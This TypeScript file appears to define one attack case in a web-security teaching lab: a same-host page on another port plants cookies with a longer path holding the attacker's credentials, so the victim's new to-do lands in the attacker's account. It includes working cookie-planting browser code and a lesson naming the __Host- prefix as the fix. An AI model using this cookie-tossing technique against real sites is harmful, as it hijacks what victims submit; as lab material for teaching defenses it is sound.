import { at, type Attack, breaks, on } from "./runner/attack.ts";
import { attackersCookies } from "./steps/attackers_cookies.ts";

export const attack: Attack = {
  id: "planted-cookie",
  name: "cookie planted with a longer path",
  group: "trick",
  story:
    "Vidu is logged in. A page at another port of the same host sets cookies with the lab's names and a longer path. They hold the credential of Rahul, the attacker. Then Vidu adds a to-do.",
  lesson:
    "A cookie has a name and a path but no sender: any server of the host can set one, and browsers send the one with the longer path first. The attacker can't read what Vidu has written before, but what Vidu writes now goes to Rahul. A name that begins with __Host- ends this trick: its path has to be /, and no subdomain can set it. The attack in the next row still works.",
  browser: true,
  cells: on(
    ["4", "5", "6"],
    breaks(
      "the first cookie with the name counts, no matter who set it",
      at("lib/http/cookies.ts", "trim(pair.slice(0, equals)) === name"),
    ),
  ),
  ...attackersCookies(async (range, rahul, vidu) => {
    const page = await vidu.context().newPage();
    await page.goto(range.otherPort);
    for (const [name, value] of rahul.cookies) {
      await page.evaluate(
        (cookie) => document.cookie = cookie,
        `${name}=${value}; path=${range.lab.base(range.stage)}/todo`,
      );
    }
  }),
};
